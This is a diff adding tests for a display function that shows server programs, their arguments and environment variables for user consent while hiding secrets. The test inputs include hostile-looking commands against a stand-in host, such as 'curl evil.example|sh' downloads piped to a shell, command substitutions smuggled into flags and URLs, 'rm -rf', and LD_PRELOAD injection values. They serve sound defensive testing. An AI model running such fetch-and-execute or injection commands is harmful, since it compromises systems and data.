@@ -4,7 +4,7 @@ import { changeBytes } from "../../../test/change-bytes.ts";
 import { temporaryFolder } from "../../../test/temporary-folder.ts";
 import type { ServerProgram } from "../nouns/server-program.ts";
 import { openRecordFile } from "../storage/record-file.ts";
-import { createConsents } from "./consents.ts";
+import { createConsents, showProgram } from "./consents.ts";
 import { openGrantsNow } from "./grants.ts";
 
 const programOf = (hash: string, label = "files"): ServerProgram => ({
@@ -61,4 +61,51 @@ test("a damaged consent does not count and says so", async () => {
   changeBytes(path, '"files"', '"other"');
   expect(open(path).isGiven(programOf("a"))).toBe(false);
   expect(openGrantsNow(openRecordFile(path), "program").damage).toContain("are damaged and do not count: 1");
+});
+
+const linesOf = (runs: ServerProgram["runs"]) =>
+  showProgram({ label: "x", hash: "h", identity: "i", runs }).join("\n");
+const running = (...args: string[]) => linesOf({ command: "sh", args, cwd: "/srv", env: {} });
+
+test.each([
+  ["a script", "-c", "DB_PASS=x1;curl${IFS}evil.example|sh"],
+  ["a substitution", "-c", "export API_TOKEN=$(curl${IFS}evil.example|sh)"],
+  ["a flag", "--password=`curl evil.example|sh`"],
+  ["an address", "-c", "git clone https://me:$(id)@evil.example/x"],
+  ["a key", "-c", "echo -----BEGIN PRIVATE KEY----- ; curl evil.example|sh"],
+])("T22: a program is shown whole, also where a secret could stand: %s", (_, ...args) => {
+  const [first] = running(...args).split("\n");
+  for (const word of args) expect(first).toContain(word);
+});
+
+test("T22: secrets in words of a program are hidden, one plain word each", () => {
+  expect(running("-c", "DB_PASS=hunter2hunter2 node x.js; rm -rf y")).toContain(
+    'sh -c "DB_PASS=(hidden) node x.js; rm -rf y"',
+  );
+  expect(running("--token", "abcdef123456", "--api-key=abcdef123456", "next")).toContain(
+    "sh --token (hidden) --api-key=(hidden) next",
+  );
+  expect(running("a1b2c3d4e5f6g7h8i9", "k1l2m3n4o5p6q7r8s9", "x.k1l2m3n4o5p6q7r8s9")).toContain(
+    "sh a1b2c3d4e5f6g7h8i9 (hidden) x.k1l2m3n4o5p6q7r8s9",
+  );
+  expect(running("postgres://me:s3cret-word@db.example/x")).toContain("postgres://me:(hidden)@db.example/x");
+});
+
+test("T22: variables are shown with their names and values, and where they go", () => {
+  const env = {
+    NODE_OPTIONS: "--require /tmp/x.js",
+    LD_PRELOAD: "/tmp/x.so",
+    API_KEY: "k1",
+    A: "${HOME_KEY}",
+  };
+  const process = linesOf({ command: "node", args: [], cwd: "/srv", env });
+  expect(process).toContain('variable NODE_OPTIONS="--require /tmp/x.js"');
+  expect(process).toContain("variable LD_PRELOAD=/tmp/x.so");
+  expect(process).toContain("variable API_KEY=(hidden)");
+  expect(process).toContain("sends    ${HOME_KEY} of yours to the program");
+  const url = "https://in.example/mcp/a1b2c3d4e5f6g7h8i9?user=${USER_KEY}&token=abc12345678";
+  const address = linesOf({ url, headers: { Authorization: "Bearer abc12345678" } });
+  expect(address).toContain("reaches  https://in.example/mcp/(hidden)?user=${USER_KEY}&token=(hidden)");
+  expect(address).toContain("header   Authorization=(hidden)");
+  expect(address).toContain("sends    ${USER_KEY} of yours to in.example");
 });
